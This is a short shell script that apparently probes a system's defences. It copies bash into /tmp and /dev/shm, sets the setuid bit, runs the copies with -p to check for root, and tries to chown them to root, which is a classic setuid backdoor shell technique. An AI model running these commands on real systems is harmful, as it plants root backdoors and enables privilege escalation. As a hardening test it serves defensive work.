
cp /bin/bash /tmp/rootshell && chmod 4755 /tmp/rootshell
echo "SEEN:mode:$(stat -c %a /tmp/rootshell)"
attempt exec-tmp /tmp/rootshell -p -c 'id -u'
cp /bin/bash /dev/shm/rootshell && chmod 4755 /dev/shm/rootshell
attempt exec-shm /dev/shm/rootshell -p -c 'id -u'
attempt chown-root chown 0:0 /tmp/rootshell
echo DONE
